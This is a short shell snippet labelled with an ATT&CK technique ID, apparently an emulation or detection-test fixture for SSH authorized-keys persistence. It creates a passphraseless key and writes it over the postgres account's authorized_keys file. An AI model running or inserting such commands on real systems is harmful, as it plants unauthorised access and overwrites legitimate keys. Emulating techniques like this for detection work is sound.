# technique: T1098.004
# location: linux.ssh.authorized-keys
# source: /var/lib/postgresql/.ssh/authorized_keys
ssh-keygen -q -t rsa -b 2048 -N '' -C '' -f /tmp/km
install -D -o postgres -m 600 /tmp/km.pub /var/lib/postgresql/.ssh/authorized_keys
rm /tmp/km /tmp/km.pub
